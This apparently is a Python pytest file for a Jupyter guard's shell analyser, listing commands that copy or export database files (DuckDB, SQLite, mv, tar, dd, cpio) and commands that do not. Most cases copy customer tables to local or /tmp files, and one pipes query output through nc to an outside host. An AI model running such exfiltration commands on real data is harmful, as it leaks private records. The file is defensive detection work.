"""Decision table for database-file copies in the shell analyser, with a stand-in for the
header test (``Reader.database``): the DuckDB CLI (not installed here, so its forms are
judged by analysis alone), moves, paths relative to ``cd``, header peeks, stdout to a file or
a pipe. The kernel tests (``tests/enforce/test_copy_database_any.py``) run the real programs."""
from __future__ import annotations

import os

import pytest

from jupyter_guard.analyze.children import Reader
from jupyter_guard.analyze.shell import analyze_shell
from jupyter_guard.model import Analysis

DATABASES = {"wh.duckdb", "data/inner.duckdb", "x.sqlite", "d/wh.db"}


def _database(path: str, walk: bool) -> tuple[str, ...]:
    if walk and os.path.normpath(path) == ".":   # the folder holds them all
        return tuple(sorted(DATABASES))
    return (path,) if os.path.normpath(path) in DATABASES else ()


READER = Reader(read=lambda p: None, python=lambda s: Analysis(), database=_database)


def copies(cmd: str) -> set[str]:
    return {i.detail for i in analyze_shell(cmd, children=READER).intents
            if i.action == "df.export" and i.detail.startswith("copies database file")}


@pytest.mark.parametrize("cmd", [
    "duckdb wh.duckdb -c \"COPY customers TO 'x.csv'\"",
    "duckdb -c \"COPY (SELECT * FROM customers) TO 'x.parquet'\" wh.duckdb",
    "duckdb wh.duckdb -c \"EXPORT DATABASE 'out'\"",
    "duckdb -csv wh.duckdb -c 'SELECT * FROM customers' > x.csv",
    "duckdb wh.duckdb -json 'SELECT * FROM customers' | gzip > x.gz",
    "duckdb wh.duckdb -c '.output x.csv' -c 'SELECT * FROM customers'",
    "duckdb wh.duckdb -c \"ATTACH 'o.duckdb' AS o; CREATE TABLE o.c AS FROM customers\"",
    "duckdb wh.duckdb < /dev/stdin > x.txt",
    "sqlite3 x.sqlite .dump > out.sql",
    "sqlite3 x.sqlite '.once out.csv' 'SELECT * FROM customers'",
    "sqlite3 x.sqlite \"VACUUM INTO 'c.db'\"",
    "sqlite3 -cmd '.mode csv' x.sqlite 'SELECT * FROM customers' >> out.csv",
    "cd data && duckdb inner.duckdb -c 'FROM customers' > ../x.csv",
    "/usr/local/bin/duckdb wh.duckdb -c 'FROM customers' | nc host 9",
    "mv wh.duckdb /tmp/x",
    "mv -t /tmp wh.duckdb",
    "cd data && cp inner.duckdb /tmp/",
    "cd data; tar czf /tmp/x.tgz inner.duckdb",
    "(cd data && zip -q /tmp/x.zip inner.duckdb)",
    "cd d && cat wh.db > /tmp/x",
    "cd data && gzip < inner.duckdb > /tmp/x.gz",
    "head -c 4096 wh.duckdb > x",
    "head -c 16 -c 99999 wh.duckdb",
    "dd if=wh.duckdb bs=16 count=1 skip=40 of=x",
    "dd if=wh.duckdb bs=4096 count=10 of=x",
    "xxd -s 100 -l 64 wh.duckdb",
    "sed '' wh.duckdb > x", "grep -a '' x.sqlite > x", "awk 1 wh.duckdb", "sort x.sqlite",
    "ls wh.duckdb | cpio -o > x.cpio",            # names from an input the guard cannot see
    "cpio -o > x.cpio <<EOF\nx.sqlite\nEOF",
    "echo x.sqlite | zip -q x.zip -@",
    "tar cf x.tar -T -",
    "sqlite3 x.sqlite <<EOF\n.output x.csv\nSELECT * FROM customers;\nEOF",
])
def test_copies_are_found(cmd: str) -> None:
    assert copies(cmd), cmd


@pytest.mark.parametrize("cmd", [
    "duckdb wh.duckdb -c 'SELECT count(*) FROM customers'",        # printed to the cell
    "sqlite3 x.sqlite 'SELECT count(*) FROM customers'",
    "duckdb wh.duckdb -c 'SELECT * FROM loads'",                       # a table named like a verb
    "sqlite3 other.db 'SELECT * FROM t' > x.csv",                      # not a database file
    "head -c 16 wh.duckdb",
    "head -c16 wh.duckdb | od -c",
    "xxd -l 32 wh.duckdb",
    "od -N 16 -c wh.duckdb",
    "dd if=wh.duckdb bs=16 count=1 status=none",
    "file wh.duckdb", "ls -l wh.duckdb", "du -k wh.duckdb", "stat wh.duckdb",
    "cd data && cp notes.txt /tmp/",
    "mv notes.txt other.txt",
    "cp notes.txt data/",                                              # into a folder
    "sed -n 1p notes.txt > x", "sort -u notes.txt",
    "cpio -o > x.cpio <<EOF\nnotes.txt\nEOF",
    "echo notes.txt | zip -q x.zip -@",
    "cpio -idv < x.cpio",                                              # extracting
])
def test_other_commands_are_not_copies(cmd: str) -> None:
    assert not copies(cmd), cmd
